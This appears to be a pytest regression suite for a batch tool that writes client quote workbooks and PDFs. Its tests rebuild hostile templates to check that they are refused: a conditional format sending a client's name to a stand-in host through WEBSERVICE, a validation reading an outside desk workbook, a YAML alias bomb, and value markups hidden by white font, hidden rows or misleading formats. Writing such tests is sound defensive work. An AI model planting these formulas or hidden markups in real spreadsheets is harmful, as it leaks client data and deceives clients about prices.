"""What the attacking review of the batch quotes found, each reproduced before its fix."""
import json
import os
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from xlfuncs.batch import pdf, quotes
from xlfuncs.batch.deals import read_deals
from xlfuncs.batch.quote_files import QuoteBook, stored_stamp
from xlfuncs.core.fields import TermError
from xlfuncs.products import BY_KEY
from xlfuncs.workbooks.calculation import Calculation

from helpers import (
    NOTE_TEMPLATE,
    ROOT,
    alive,
    cli,
    engine_values,
    example,
    example_rows,
    needs_pdf_tools,
    run_with,
    running_children,
    start_big_run,
    summary,
    summary_rows,
    write_deals,
)


@needs_pdf_tools
def test_an_interrupted_pdf_run_leaves_no_old_pdf_beside_a_new_quote(tmp_path):
    """Was: SIGTERM during the PDF step left the previous run's PDFs (old terms, old value)
    beside the rewritten workbooks, the summary silent about it."""
    rows = [{**row, "deal_id": f"P-{n}-{row['deal_id']}"} for n in range(2) for row in example_rows()]
    deals = write_deals(tmp_path / "deals.csv", rows)
    out = tmp_path / "out"
    assert cli(deals, "--out", out, "--pdf", "--jobs", "2").returncode == 0
    rows = [dict(row, vol="0.31") for row in rows]
    write_deals(deals, rows)
    process = subprocess.Popen([sys.executable, "-m", "xlfuncs", "quote", str(deals), "--out", str(out), "--pdf",
                                "--jobs", "2"], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while not list(out.glob(".pdf-staging-*")) and time.monotonic() < deadline:
        time.sleep(0.01)
    time.sleep(0.3)
    process.send_signal(signal.SIGTERM)
    _, err = process.communicate(timeout=30)
    assert process.returncode == 143 and "Traceback" not in err
    for path in out.glob("*.pdf"):  # every PDF left is of the quote beside it
        assert pdf.stamp_of(path) == stored_stamp(out / f"{path.stem}.xlsx") is not None
    records = summary_rows(out)
    assert {r["status"] for r in records} == {"written"}
    missing = [r for r in records if not r["pdf"]]
    assert missing and all(r["message"] == "its PDF was not made: the run was interrupted; run it again with --pdf"
                           for r in missing)
    assert not any(out.glob(".pdf-staging-*"))
    again = cli(deals, "--out", out, "--pdf")
    assert again.returncode == 0 and len(list(out.glob("*.pdf"))) == len(rows)


def test_a_key_given_twice_in_json_or_yaml_fails_that_deal(tmp_path):
    """Was: the last value silently won (participation 3 and vol 30% quoted)."""
    deal = {k: v for k, v in example("N-101").items() if v}
    text = json.dumps([deal, {**deal, "deal_id": "N-2"}])
    text = text.replace('"vol": "0.150"', '"vol": "0.150", "Vol": "0.30"', 1)
    (tmp_path / "deals.json").write_text(text)
    deals, failures = read_deals(tmp_path / "deals.json")
    assert [d.deal_id for d in deals] == ["N-2"] and failures[0]["message"] == "column 'vol' is given more than once"
    yaml_text = "- " + "\n  ".join(f"{k}: '{v}'" for k, v in deal.items()) + "\n  participation: '2.5'\n"
    (tmp_path / "deals.yaml").write_text(yaml_text)
    deals, failures = read_deals(tmp_path / "deals.yaml")
    assert deals == [] and failures[0]["message"] == "column 'participation' is given more than once"


def test_yaml_aliases_are_refused(tmp_path):
    """Was: 2.4 kB of nested aliases took 45 s and 1.3 GB."""
    (tmp_path / "deals.yaml").write_text("- deal_id: A\n  closes: &c ['1', '2']\n- deal_id: B\n  closes: *c\n")
    with pytest.raises(quotes.DealListError, match=r"aliases \(\*name, <<: \*name\) are not allowed"):
        read_deals(tmp_path / "deals.yaml")


def test_a_corrupted_or_edited_quote_is_made_again_not_called_up_to_date(tmp_path):
    """Was: a quote with a flipped byte (failing its checksum), or with a number edited by hand,
    skipped as up to date for ever."""
    deals = write_deals(tmp_path / "deals.csv", [example("N-101"), example("W-201")])
    out = tmp_path / "out"
    quotes.run(deals, out)
    corrupt = bytearray((out / "N-101.xlsx").read_bytes())
    corrupt[len(corrupt) // 3] ^= 0xFF
    (out / "N-101.xlsx").write_bytes(bytes(corrupt))
    with zipfile.ZipFile(out / "W-201.xlsx") as package:
        parts = {name: package.read(name) for name in package.namelist()}
    sheet = next(name for name in parts if name.endswith("sheet1.xml"))
    value = f"{summary(out)['W-201']['value'][:6]}".encode()
    assert value in parts[sheet]
    parts[sheet] = parts[sheet].replace(value, b"99.999", 1)
    with zipfile.ZipFile(out / "W-201.xlsx", "w") as package:
        for name, data in parts.items():
            package.writestr(name, data)
    records, _ = quotes.run(deals, out)
    assert {r["deal_id"]: r["status"] for r in records} == {"N-101": "written", "W-201": "written"}
    assert {r["status"] for r in quotes.run(deals, out)[0]} == {"skipped"}


def test_a_worker_that_dies_leaves_a_complete_summary_and_no_traceback(tmp_path):
    """Was: a BrokenProcessPool traceback, exit 1, and the deals not reached missing from summary.csv."""
    process, rows = start_big_run(tmp_path)
    workers = running_children(process.pid)
    os.kill(workers[0], signal.SIGKILL)
    out, err = process.communicate(timeout=120)
    assert process.returncode == 1 and "Traceback" not in err, err
    records = summary_rows(tmp_path / "out")
    assert len(records) == len(rows) and "not done" in {r["status"] for r in records}
    lost = [r for r in records if r["status"] == "not done"]
    assert all(r["message"].startswith("a worker process died (out of memory or killed)") for r in lost)
    assert f"{len(lost)} not done in" in out
    assert not any(alive(pid) for pid in workers[1:] if time.sleep(0.5) is None)


@needs_pdf_tools
def test_a_folder_where_a_pdf_belongs_fails_that_deal_only(tmp_path):
    """Was: an IsADirectoryError for the whole PDF step, exit 2, no PDFs at all."""
    rows = [example("N-101"), example("N-102")]
    (tmp_path / "out" / "N-102.pdf").mkdir(parents=True)
    records, _ = quotes.run(write_deals(tmp_path / "deals.csv", rows), tmp_path / "out", make_pdf=True)
    by_id = {r["deal_id"]: r for r in records}
    assert by_id["N-101"]["pdf"] == "N-101.pdf" and by_id["N-102"]["status"] == "failed"
    assert by_id["N-102"]["message"].startswith("its old N-102.pdf cannot be removed: [Errno 21] Is a directory")


def test_a_template_whose_quote_shows_another_value_than_the_summary_is_refused_or_fails(tmp_path):
    """Was: =EstimatedValue+10 on the Quote sheet sent the client 988.12 while the summary said
    978.12; then (second round) a hidden =EstimatedValue beside the page passed the check."""
    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
    cell = next(c for row in wb["Quote"].iter_rows() for c in row if c.value == "=EstimatedValue")
    cell.value = "=EstimatedValue*1.02"
    wb["Quote"]["Z1"] = "=EstimatedValue"
    wb.save(tmp_path / "markup.xlsx")
    result = run_with(tmp_path, tmp_path / "markup.xlsx")
    assert result.returncode == 2
    assert ("its Quote sheet must show =EstimatedValue in a printed cell (inside its print area, legible); Quote!Z1 "
            "does not print: it is outside the print area") in result.stderr
    cell.value = "=EstimatedValue"
    cell.number_format = '#,##0.00,'  # shown in thousands: 0.98
    wb.save(tmp_path / "scaled.xlsx")
    result = run_with(tmp_path, tmp_path / "scaled.xlsx")
    assert result.returncode == 2 and f"Quote!{cell.coordinate} shows EstimatedValue with the number format " \
                                      "'#,##0.00,'" in result.stderr
    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
    sheet, ref = next(iter(wb.defined_names["EstimatedValue"].destinations))
    wb[sheet][ref.replace("$", "")] = wb[sheet][ref.replace("$", "")].value + "+10"  # a markup at the source
    wb.save(tmp_path / "source.xlsx")
    result = run_with(tmp_path, tmp_path / "source.xlsx")  # now refused before anything is written
    assert result.returncode == 2 and f"{sheet}!{ref.replace('$', '')} computes =NOTE_VALUE(" in result.stderr
    assert "+10, which is not a formula of the note layout" in result.stderr
    assert not (tmp_path / "out").exists()


def test_a_warrant_with_a_short_lookback_window_is_quoted_as_the_template_computes_it(tmp_path):
    """Was: the template's 21-row Closes range made WARRANT_VALUE refuse a window of 8 trading days
    (#VALUE! in Excel and the engine) while the fast path quoted a number."""
    deal = dict(example("W-201"), window_end="2025-06-02")
    deals, failures = read_deals(write_deals(tmp_path / "deals.csv", [deal]))
    assert failures == []
    book = QuoteBook(ROOT / "workbooks" / "bearish_put_warrant.xlsx", BY_KEY["warrant"])
    fast = book.values(deals[0])
    slow = engine_values(Calculation(ROOT / "workbooks" / "bearish_put_warrant.xlsx"), book, deals[0])
    assert all(fast[ref] == pytest.approx(slow[ref], rel=1e-12) if isinstance(fast[ref], float) else
               fast[ref] == slow[ref] for ref in fast)
    shown = [fast[ref] for ref in book.sheet.key_cells["EstimatedValue"]]
    assert shown == [pytest.approx(quotes.analyse(deals[0])["value"], rel=1e-12)] and shown[0] > 0


def test_the_engine_writes_model_inputs_as_excel_does():
    """Was: the formulas engine (the tests' oracle for every quote) wrote a spot of 0.5 as "spot 0,.50"."""
    book = QuoteBook(NOTE_TEMPLATE, BY_KEY["note"])
    deals, _ = read_deals(write_deals(Path(tempfile.mkdtemp()) / "deals.csv",
                                      [dict(example("N-101"), initial="0.5", spot="0.5")]))
    values = engine_values(Calculation(NOTE_TEMPLATE), book, deals[0])
    texts = [value for value in values.values() if isinstance(value, str) and value.startswith(("spot ", "rate "))]
    assert texts == ["spot 0.50, vol 15.0%", "rate 5.30%, dividend yield 1.50%, funding spread 1.00%"]
    assert texts == [value for value in book.values(deals[0]).values() if value in texts]


def test_an_amount_too_large_for_the_page_fails_instead_of_showing_hashes(tmp_path):
    """Was: principal 1e11 printed "Estimated value ###" and every payment as ###."""
    deal = dict(example("N-101"), principal="100000000000")
    records, _ = quotes.run(write_deals(tmp_path / "deals.csv", [deal]), tmp_path / "out")
    assert records[0]["status"] == "failed"
    assert "is too narrow for $" in records[0]["message"] and "(the page would show ###)" in records[0]["message"]
    for principal in ("1000000", "1000000000", "10000000000"):  # wide, and they fit (LibreOffice prints them)
        records, _ = quotes.run(write_deals(tmp_path / "deals.csv", [dict(deal, principal=principal)]), tmp_path / "out")
        assert records[0]["status"] == "written", records[0]["message"]


@pytest.mark.parametrize("part", ["xl/connections.xml", "xl/pivotCache/pivotCacheDefinition1.xml",
                                  "xl/embeddings/oleObject1.bin", "xl/queryTables/queryTable1.xml"])
def test_data_connections_queries_pivot_caches_and_objects_are_refused(tmp_path, part):
    def change(name, data):
        return data
    change.extra = {part: b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'}
    from helpers import repacked
    result = run_with(tmp_path, repacked(NOTE_TEMPLATE, tmp_path / "conn.xlsx", change))
    assert result.returncode == 2 and f"holds {part}: a template may hold no data connections" in result.stderr


def test_a_chart_plotting_another_sheet_is_refused(tmp_path):
    """Was: a chart of the Valuation sheet's numbers reached the client with its cached values."""
    from openpyxl.chart import BarChart, Reference
    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
    chart = BarChart()
    chart.add_data(Reference(wb["Valuation"], min_col=2, min_row=5, max_row=9))
    wb["Quote"].add_chart(chart, "G5")
    wb.save(tmp_path / "chart.xlsx")
    result = run_with(tmp_path, tmp_path / "chart.xlsx")
    assert result.returncode == 2 and "its Quote sheet's chart 2 plots 'Valuation'!$B$5:$B$9" in result.stderr


def test_no_chart_cache_reaches_the_client(tmp_path):
    quotes.run(write_deals(tmp_path / "deals.csv", [example("N-101")]), tmp_path / "out")
    with zipfile.ZipFile(tmp_path / "out" / "N-101.xlsx") as package:
        chart = package.read(next(n for n in package.namelist() if n.startswith("xl/charts/chart")))
    assert b"numCache" not in chart and b"strCache" not in chart and b"'Chart data'!" in chart


def test_outside_references_in_formats_and_validations_are_refused_and_comments_never_reach_clients(tmp_path):
    """Was: a conditional format calling WEBSERVICE with the client's name, a validation reading
    another workbook and a desk comment all copied into every client quote."""
    from openpyxl.comments import Comment
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.worksheet.datavalidation import DataValidation
    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
    wb["Quote"].conditional_formatting.add("B4", FormulaRule(formula=['LEN(WEBSERVICE("http://x.invalid/?c="&$B$4))>0']))
    wb.save(tmp_path / "format.xlsx")
    result = run_with(tmp_path, tmp_path / "format.xlsx")
    assert result.returncode == 2 and "a conditional format of Quote!B4 refers outside the workbook" in result.stderr
    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
    validation = DataValidation(type="list", formula1="INDIRECT(\"'C:\\desk\\[pricing.xlsx]Greeks'!A1:A5\")")
    validation.add("B4")
    wb["Quote"].add_data_validation(validation)
    wb.save(tmp_path / "validation.xlsx")
    result = run_with(tmp_path, tmp_path / "validation.xlsx")
    assert result.returncode == 2 and "a data validation of Quote!B4 refers outside the workbook" in result.stderr
    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
    wb["Quote"]["B5"].comment = Comment("Desk: value 978.12, delta -0.20", "desk")
    wb["Quote"].conditional_formatting.add("B5", FormulaRule(formula=["$B$5>0"]))
    wb.save(tmp_path / "comment.xlsx")
    assert run_with(tmp_path, tmp_path / "comment.xlsx").returncode == 0
    with zipfile.ZipFile(tmp_path / "out" / "N-101.xlsx") as package:
        names = package.namelist()
        text = b"".join(package.read(name) for name in names)
    assert not any("comment" in name.lower() for name in names) and b"Desk: value" not in text
    assert b"conditionalFormatting" not in text


def test_a_huge_xml_part_is_refused_before_it_is_parsed(tmp_path):
    """Was: a 1.4 MB template with a 19 MB sheet took 17 s to check and 62 s to load in each process."""
    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
    ws = wb.create_sheet("Padding")
    for row in range(1, 60_000):
        ws.cell(row, 1, "x" * 60)
    wb.save(tmp_path / "big.xlsx")
    result = run_with(tmp_path, tmp_path / "big.xlsx")
    assert result.returncode == 2 and "an XML part of a template is at most 5,000,000" in result.stderr


def test_a_blank_scenario_change_is_zero_as_in_excel(tmp_path):
    """Was: the fast path refused a blank QuoteChanges cell the engine (and Excel) reads as 0."""
    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
    sheet, ref = next(iter(wb.defined_names["QuoteChanges"].destinations))
    first = ref.replace("$", "").split(":")[0]
    wb[sheet][first] = None
    wb.save(tmp_path / "blank.xlsx")
    book = QuoteBook(tmp_path / "blank.xlsx", BY_KEY["note"])
    deals, _ = read_deals(write_deals(tmp_path / "deals.csv", [example("N-101")]))
    fast = book.values(deals[0])
    slow = engine_values(Calculation(tmp_path / "blank.xlsx"), book, deals[0])
    assert all(fast[ref] == pytest.approx(slow[ref], rel=1e-12) if isinstance(fast[ref], float) else
               fast[ref] == slow[ref] for ref in fast)


@pytest.mark.parametrize("option, value, message", [
    ("--author", "Desk\x01", "--author holds the character U+0001"),
    ("--company", "C" * 300, "--company is 300 characters")])
def test_author_and_company_are_checked_before_anything_is_written(tmp_path, option, value, message):
    """Was: a control character in --author failed every deal and removed every previous quote."""
    deals = write_deals(tmp_path / "deals.csv", [example("N-101")])
    quotes.run(deals, tmp_path / "out")
    before = (tmp_path / "out" / "N-101.xlsx").read_bytes()
    result = cli(deals, "--out", tmp_path / "out", option, value)
    assert result.returncode == 2 and message in result.stderr
    assert (tmp_path / "out" / "N-101.xlsx").read_bytes() == before


@pytest.mark.parametrize("newline", ["\n", "\r\n", "\r"])
def test_excel_s_sep_line_names_the_delimiter(tmp_path, newline):
    """Was: unknown column 'sep=;'; then, with old-Mac line ends, no header row."""
    text = (ROOT / "examples" / "deals.csv").read_text().replace(",", "|").replace("\n", newline)
    (tmp_path / "deals.csv").write_bytes(("sep=|" + newline + text).encode())
    deals, failures = read_deals(tmp_path / "deals.csv")
    assert failures == [] and len(deals) == 16 and deals[0].row == 3


def test_quotes_of_deals_no_longer_listed_are_named(tmp_path, capsys):
    deals = write_deals(tmp_path / "deals.csv", [example("N-101"), example("N-102")])
    quotes.run(deals, tmp_path / "out")
    write_deals(deals, [example("N-101")])
    assert quotes.main(deals, tmp_path / "out", 1, False, []) == 0
    assert "1 quote(s) of deals not in this list left as they are: N-102.xlsx" in capsys.readouterr().err
    (tmp_path / "out" / "N-103.pdf").write_bytes(b"%PDF")
    assert quotes.main(deals, tmp_path / "out", 1, False, []) == 0
    assert "2 quote(s) of deals not in this list left as they are: N-102.xlsx, N-103.pdf" in capsys.readouterr().err


def test_a_subnormal_amount_is_refused():
    """Was: principal 5e-324 quoted by the fast path where the engine computed #VALUE!."""
    from xlfuncs.excel import functions as excel
    with pytest.raises(TermError, match=r"principal must be from 1e-06 to 1e\+12, got 4.94066e-324"):
        excel.NOTE_PAYMENT(4000.0, 4550.58, 3, 0.1, 0.25, 0.1, 5e-324)


def key_cell(wb):
    return next(c for row in wb["Quote"].iter_rows() for c in row if c.value == "=EstimatedValue")


def hide_row(wb):
    wb["Quote"].row_dimensions[key_cell(wb).row].hidden = True


def squeeze_row(wb):
    wb["Quote"].row_dimensions[key_cell(wb).row].height = 0.75


def whiten(wb):
    cell = key_cell(wb)
    cell.font = openpyxl.styles.Font(color="FFFFFF", size=12, bold=True)


def minus_format(wb):
    key_cell(wb).number_format = '-"$"#,##0.00'


def whole_dollars(wb):
    key_cell(wb).number_format = "0"


@pytest.mark.parametrize("change, message", [
    (hide_row, "must show =EstimatedValue in a printed cell"), (squeeze_row, "must show =EstimatedValue in a printed cell"),
    (whiten, "must show =EstimatedValue in a printed cell"),
    (minus_format, "shows EstimatedValue with the number format '-\"$\"#,##0.00'"),
    (whole_dollars, "shows EstimatedValue with the number format '0'")])
def test_a_key_number_hidden_or_shown_otherwise_than_it_is_is_refused(tmp_path, change, message):
    """Third review: a hidden row, a 0.75 pt row, a white font beside a marked-up copy; a literal
    minus (-$978.12); whole dollars (978 for 978.12)."""
    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
    change(wb)
    wb.save(tmp_path / "t.xlsx")
    result = run_with(tmp_path, tmp_path / "t.xlsx")
    assert result.returncode == 2 and message in result.stderr, result.stderr


def currency(wb):
    key_cell(wb).number_format = '"$"#,##0.00_);("$"#,##0.00)'


def accounting(wb):
    key_cell(wb).number_format = '_("$"* #,##0.00_);_("$"* (#,##0.00);_("$"* "-"??_);_(@_)'


def two_ranges(wb):
    wb["Quote"].print_area = ["A40:E55", "A1:E39"]


def grouped_columns(wb):
    columns = wb["Quote"].column_dimensions
    columns["C"].min, columns["C"].max = 3, 5
    del columns["D"], columns["E"]


@pytest.mark.parametrize("change", [currency, accounting, two_ranges, grouped_columns])
def test_common_formats_print_areas_and_column_groups_are_accepted(tmp_path, change):
    """Third review: Excel's Currency and Accounting formats, a print area of two ranges and
    columns saved as one group were refused or failed a $1,000,000 note."""
    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
    change(wb)
    wb.save(tmp_path / "t.xlsx")
    rows = [dict(example("N-101"), principal="1000000")]
    result = cli(write_deals(tmp_path / "deals.csv", rows), "--out", tmp_path / "out", "--template",
                 f"note={tmp_path / 't.xlsx'}")
    assert result.returncode == 0, result.stderr


def test_a_markup_below_a_billionth_is_caught(tmp_path):
    """Third review: a (1+9.9E-10) markup on a $800,000,000 note moved the client's value $0.77
    (caught by the key-number check then; now refused as a formula the layout does not have)."""
    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
    sheet, ref = next(iter(wb.defined_names["EstimatedValue"].destinations))
    cell = wb[sheet][ref.replace("$", "")]
    cell.value = f"=({cell.value[1:]})*(1+9.9E-10)"
    wb.save(tmp_path / "t.xlsx")
    rows = [dict(example("N-101"), principal="800000000")]
    result = cli(write_deals(tmp_path / "deals.csv", rows), "--out", tmp_path / "out", "--template",
                 f"note={tmp_path / 't.xlsx'}")
    assert result.returncode == 2 and "*(1+9.9E-10), which is not a formula of the note layout" in result.stderr
